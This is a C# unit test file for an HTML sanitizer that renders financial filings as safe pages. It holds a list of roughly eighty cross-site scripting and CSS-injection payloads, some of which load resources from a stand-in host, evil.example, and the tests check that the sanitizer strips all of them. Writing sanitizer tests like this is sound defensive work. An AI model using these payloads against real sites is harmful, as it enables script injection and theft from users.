using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace ThesisBoard.Filings.Tests.Html;

/// <summary>What comes out is parsed by a browser's rules (AngleSharp) and every element and attribute looked at.</summary>
public sealed class SafeHtmlTests
{
    private static readonly string[] Urls = ["href", "src", "action", "formaction", "background", "poster", "data", "xlink:href", "srcset", "cite", "longdesc", "ping", "srcdoc"];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</script>", "<SCRIPT\n>alert(1)</SCRIPT\n>",
        "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>", "<img src=http://evil.example/p.gif>", "<img src=//evil.example/p.gif>", "<img srcset='http://evil.example/a 1x'>",
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'>", "<img src='data:text/html,<script>alert(1)</script>'>", "<img/src/onerror=alert(1)>",
        "<img src=\"data:image/png;base64,AAAA\" onload=alert(1)>", "<p onclick=alert(1) onmouseover='alert(1)'>x</p>", "<p/onclick=alert(1)>x",
        "<a href=javascript:alert(1)>x</a>", "<a href=' java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='//evil.example'>x</a>",
        "<a href='data:text/html,x' target=_top>x</a>", "<a href='#\" onclick=\"alert(1)'>x</a>", "<area href=javascript:alert(1)>", "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<link rel=stylesheet href=http://evil.example/x.css>", "<iframe src=http://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=http://evil.example/x.swf></object>", "<embed src=http://evil.example/x.swf>",
        "<applet code=x></applet>", "<frameset><frame src=http://evil.example></frameset>", "<form action=http://evil.example><input name=a><button formaction=//e>b</button></form>",
        "<isindex action=javascript:alert(1)>", "<video poster=//evil.example src=//evil.example></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1) background=http://evil.example/x>",
        "<table background=http://evil.example/x><td background=javascript:alert(1)>x</table>", "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99'>cover</div>",
        "<div style='background:url(http://evil.example/x)'>x</div>", "<div style='background:u\\72l(http://evil.example)'>x</div>", "<div style='width:expression(alert(1))'>x</div>",
        "<div style='behavior:url(x.htc);-moz-binding:url(x)'>x</div>", "<div style='color:red/*;*/;background-image:url(//e)'>x</div>", "<div style='margin-top:-9999px'>x</div>",
        "<div style='font-family:\"x;background:url(//e)\"'>x</div>", "<div style=\"color:red&quot; onclick=&quot;alert(1)\">x</div>", "<style>@import 'http://evil.example/x.css';</style>",
        "<style>body{position:fixed}</style>", "<xmp><img src=x onerror=alert(1)></xmp>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>", "<template><script>alert(1)</script></template>",
        "<!--><img src=x onerror=alert(1)>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href=\"//e\"?>",
        "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
        "</body></html><script>alert(1)</script>", "<plaintext><script>alert(1)</script>", "<p id='x\"><script>alert(1)</script>'>x</p>", "<p class=tb-fact data-fact=x id=tb-f-1>x</p>",
        "<select><option><img src=x onerror=alert(1)></select>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<b <script>alert(1)</script>", "<a name=x onfocus=alert(1) autofocus tabindex=1>", "<img src='x' style='list-style:url(//e)'\0onerror=alert(1)>", "<input type=image src=//e onerror=alert(1)>",
        "<p contenteditable accesskey=x draggable=true>x</p>", "<button popovertarget=x>x</button>", "<dialog open>x</dialog>", "<map name=m><area shape=rect href='//e'></map>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Nothing_hostile_comes_through(string attack)
    {
        foreach (var document in (string[])["<html><body><p>before</p>" + attack + "<p>after</p></body></html>", "<?xml version=\"1.0\"?><html><body>" + attack, "<html>" + attack + attack])
            AssertHarmless(Sample.Page(document).Html);
    }

    [Fact]
    public void The_page_keeps_the_look_of_a_filing()
    {
        var body = Sample.Body(Sample.Page("""
            <html><body><p style="text-align:center;font-size:10pt;position:absolute">a</p><table border="1" style="width:100%"><tr><td colspan="3" bgcolor="#cceeff">b</td></tr></table>
            <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"><a href="#n1">c</a><a name="n1"></a><font color="red">d</font></body></html>
            """));
        Assert.Contains("<p style=\"text-align:center;font-size:10pt\">a</p>", body, StringComparison.Ordinal);
        Assert.Contains("<td colspan=\"3\" bgcolor=\"#cceeff\">b</td>", body, StringComparison.Ordinal);
        Assert.Contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"logo\">", body, StringComparison.Ordinal);
        Assert.Contains("<a href=\"#tb-x-n1\">c</a><a id=\"tb-x-n1\"></a><font color=\"red\">d</font>", body, StringComparison.Ordinal);
    }

    [Fact]
    public void Facts_are_marked_by_id_or_by_their_number_in_the_file_as_the_facts_reader_counts()
    {
        var document = Ixbrl.Document($"""
            <div style="display:none"><ix:header><ix:hidden>{Ixbrl.Number("1")}</ix:hidden></ix:header></div>
            <p>Debt {Ixbrl.Number("30.6", "id=\"f-7\"")} and <ix:nonNumeric name="m:N" contextRef="now">note {Ixbrl.Number("5")}</ix:nonNumeric></p>
            <ix:nonNumeric name="m:Empty" contextRef="now"/><!-- {Ixbrl.Number("9")} --><p><![CDATA[{Ixbrl.Number("8")}]]></p>{Ixbrl.Number("7")}
            """);
        var facts = Ixbrl.Read(document);
        var page = Sample.Page(document);
        Assert.Equal(["#1", "f-7", "#4", "#6"], facts.Facts.Select(f => f.Tag));
        Assert.Equal(["#3", "#5"], facts.TextFacts.Select(f => f.Tag));
        Assert.Equal(["f-7", "#3", "#4", "#5", "#6"], page.Facts);
        Assert.Contains("<span class=\"tb-fact\" data-fact=\"f-7\" id=\"tb-f-f-7\">30.6</span>", page.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Every_heading_has_a_mark_to_go_to()
    {
        var page = Sample.Page("<html><h1>Results</h1><p>x</p><p><b>Item 5. Review</b></p>");
        Assert.Equal([("tb-h-1", "Results", 1), ("tb-h-2", "Item 5. Review", 2)], page.Outline.Select(o => (o.Id, o.Text, o.Level)));
        Assert.Contains("<h1><span id=\"tb-h-1\"></span>Results</h1>", page.Html, StringComparison.Ordinal);
        Assert.Contains("<b><span id=\"tb-h-2\"></span>Item 5. Review</b>", page.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Plain_text_and_tables_of_text_become_pages_too()
    {
        Assert.Contains("<p>a &lt;b&gt; c</p>", Sample.Page("a <b> c").Html, StringComparison.Ordinal);
        Assert.Contains("<tr><td>2025-12-31</td><td>557.9</td></tr>", Sample.Page("period,debt\n2025-12-31,557.9\n2026-03-31,30.6\n").Html, StringComparison.Ordinal);
    }

    private static void AssertHarmless(string html)
    {
        var document = new HtmlParser().ParseDocument(html);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, (string[])["script", "style", "link", "meta", "base", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "template", "frame", "audio", "video", "applet", "textarea", "select", "dialog"]);
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            foreach (var attribute in element.Attributes)
                AssertHarmless(element, attribute);
        }
        Assert.DoesNotContain(document.Head!.QuerySelectorAll("script,link,base"), _ => true);
    }

    private static void AssertHarmless(IElement element, IAttr attribute)
    {
        Assert.DoesNotContain("on", attribute.Name[..Math.Min(2, attribute.Name.Length)], StringComparison.OrdinalIgnoreCase);
        if (Urls.Contains(attribute.Name))
            Assert.True(attribute.Value.StartsWith('#') || (element.LocalName == "img" && attribute.Value.StartsWith("data:image/png;base64,", StringComparison.Ordinal)), attribute.Value);
        if (attribute.Name == "style")
        {
            foreach (var bad in (string[])["url", "expression", "position", "import", "\\", "behavior", "binding", "-9999", "z-index", "/*"])
                Assert.DoesNotContain(bad, attribute.Value, StringComparison.OrdinalIgnoreCase);
        }
        if (attribute.Name is "class" or "data-fact")
            Assert.Fail("Only our own marks carry classes, and no attack here is one.");
    }
}
